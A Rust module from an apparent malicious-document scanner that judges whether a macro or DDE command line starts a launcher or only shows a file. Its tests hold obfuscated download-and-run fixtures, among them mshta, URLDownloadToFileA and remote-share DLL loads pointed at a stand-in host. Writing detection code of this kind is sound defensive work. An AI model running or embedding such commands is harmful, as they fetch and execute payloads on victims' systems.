//! What the command line of a macro or a DDE conversation starts, as far as its words tell.
//!
//! A command line has the program at its head, and behind it what that is given. Programs that only show
//! a folder, a page or a document are judged by what they are given: a file that runs is started by them,
//! too.

use crate::base::is_elsewhere;
use crate::indicators::{fold_command, launchers};

/// Extensions of files that run when they are opened.
const RUNS: [&str; 18] = [
    "exe", "com", "scr", "pif", "bat", "cmd", "cpl", "msi", "js", "jse", "vbs", "vbe", "wsf", "hta", "ps1",
    "lnk", "xll", "sct",
];

/// Programs that only show what they are given.
pub(super) const VIEWERS: [&str; 16] = [
    "notepad", "calc", "explorer", "winword", "excel", "powerpnt", "msaccess", "outlook", "iexplore",
    "firefox", "chrome", "msedge", "acrord32", "mspaint", "wordpad", "write",
];

/// Extensions of files that their own programs only show.
const SHOWN: [&str; 8] = ["txt", "log", "csv", "pdf", "png", "jpg", "gif", "ini"];

/// Viewers that hand a file that runs, or an object of the shell, on to Windows, which starts it.
const OPENERS: [&str; 5] = ["explorer", "iexplore", "firefox", "chrome", "msedge"];

/// What a program of another computer is called where a launcher would be named.
const REMOTE: &str = "a program of another computer";

/// The program in a command line, or in the arguments of a call, that attackers start or fetch others with.
pub(super) fn launcher(text: &str) -> Option<&'static str> {
    let text = fold_command(text);
    let text = text.trim();
    let (path, rest) = head(text);
    let name = program_name(path);
    if path.starts_with('\\') && is_elsewhere(path) {
        return Some(REMOTE);
    }
    // At the head of a command line a word of prose is a program as well.
    let spelled = format!("{name}.exe");
    let named = launchers(&spelled).chain(launchers(text)).map(|mention| mention.name);
    let opener = OPENERS.into_iter().find(|opener| *opener == name);
    opener.into_iter().chain(named).find(|name| match *name {
        "hh" => rest.contains("://") || rest.contains(r"\\"),
        name if OPENERS.contains(&name) => rest.contains("shell:") || files_that_run(rest).next().is_some(),
        _ => true,
    })
}

/// Whether a command line only shows something: a viewer that is given no file that runs, a document, or
/// an address.
pub(super) fn is_shown(command: &str) -> bool {
    let (path, rest) = head(command.trim());
    let name = program_name(path);
    let shows = VIEWERS.contains(&name.as_str())
        || name.rsplit_once('.').is_some_and(|(_, extension)| SHOWN.contains(&extension))
        || path.contains("://") && file_that_runs(path).is_none();
    shows && files_that_run(rest).all(|file| VIEWERS.contains(&program_name(file).as_str()))
}

/// The names of files that run among the words of a text.
fn files_that_run(text: &str) -> impl Iterator<Item = &str> {
    text.split(|letter: char| letter.is_whitespace() || matches!(letter, '"' | '\'' | '|' | ',' | ';'))
        .filter_map(file_that_runs)
}

/// The name of the file when a word is the path, name or address of one that runs.
pub(super) fn file_that_runs(word: &str) -> Option<&str> {
    let path = match word.split_once("://") {
        Some((_, rest)) => rest.split(['?', '#']).next()?.split_once('/')?.1,
        None => word,
    };
    let name = path.rsplit(['\\', '/']).next().unwrap_or_default();
    let (stem, extension) = name.rsplit_once('.')?;
    let runs = RUNS.iter().any(|known| known.eq_ignore_ascii_case(extension));
    (runs && !stem.is_empty()).then_some(name)
}

/// The path of the program that a command line begins with, and what stands behind it. Without quotes a
/// path with spaces ends at its extension, as Windows tries it.
fn head(command: &str) -> (&str, &str) {
    if let Some((path, rest)) = command.strip_prefix('"').and_then(|quoted| quoted.split_once('"')) {
        return (path, rest);
    }
    let ends = |at: &usize| {
        command.get(*at..).and_then(|rest| rest.chars().next()).is_none_or(|next| !next.is_alphanumeric())
    };
    let lower = command.to_ascii_lowercase();
    let exe = lower.find(".exe").map(|at| at.saturating_add(4)).filter(ends);
    let word = command.find([' ', '\t', ',']).unwrap_or(command.len());
    // Only a path has spaces before its extension.
    let is_path = command.get(..word).is_some_and(|first| first.contains(['\\', ':']));
    let end = exe.filter(|end| *end < word || is_path).unwrap_or(word);
    command.split_at_checked(end).unwrap_or((command, ""))
}

/// The name of a program without its folder and without `.exe`, in lower case.
fn program_name(path: &str) -> String {
    let name = path.rsplit(['\\', '/']).next().unwrap_or_default().to_ascii_lowercase();
    name.strip_suffix(".exe").unwrap_or(&name).to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_launcher_is_told_at_the_head_and_anywhere_in_clear() {
        let named = [
            ("finger x@files.invalid", Some("finger")),
            (r#""C:\Windows\System32\cmd.exe" /c dir"#, Some("cmd")),
            ("start m^shta http://files.invalid/a.hta", Some("mshta")),
            ("urlmon, URLDownloadToFileA, JJCCBB, 0, http://files.invalid/a", Some("urlmon")),
            (r"\\files.invalid@80\s\a.dll, Start, J", Some(REMOTE)),
            (r"\\server\apps\a.exe", None),
            (r"C:\Program Files\Acme\a.exe finger", None),
            ("oxnv1.exe", None),
        ];
        for (text, expected) in named {
            assert_eq!(launcher(text), expected, "{text}");
        }
    }

    #[test]
    fn viewers_count_by_what_they_are_given() {
        let named = [
            (r"explorer C:\ProgramData\a.vbs", Some("explorer")),
            ("explorer.exe http://files.invalid/a.hta?b=c", Some("explorer")),
            (r"C:\Program Files\Internet Explorer\iexplore.exe http://files.invalid/a.hta", Some("iexplore")),
            ("hh http://files.invalid/a.chm", Some("hh")),
            (r"explorer.exe C:\Reports", None),
            ("explorer.exe http://www.files.com", None),
            ("iexplore http://intranet.invalid/prices", None),
            (r"hh.exe C:\Tools\help.chm", None),
            ("explorer shell:::{2559a1f3-21d7-11d4-bdaf-00c04f60b9f0}", Some("explorer")),
            ("chrome.exe mshta http://files.invalid/a", Some("mshta")),
        ];
        for (text, expected) in named {
            assert_eq!(launcher(text), expected, "{text}");
        }
    }

    #[test]
    fn a_viewer_with_a_document_only_shows_it() {
        let shown = [
            r"notepad.exe C:\Reports\log.txt",
            r#""C:\Program Files\Microsoft Office\EXCEL.EXE" C:\Reports\data.csv"#,
            r"C:\Reports\log.txt",
            "http://intranet.invalid/prices",
            "calc.exe",
        ];
        let run = [
            r"explorer C:\ProgramData\a.vbs",
            "excel a.xll",
            r"C:\ProgramData\a.exe",
            "http://files.invalid/a.hta",
            r"..\oxnv1.xls",
            "wscript a.txt",
        ];
        assert_eq!(shown.map(is_shown), [true; 5]);
        assert_eq!(run.map(is_shown), [false; 6]);
    }
}
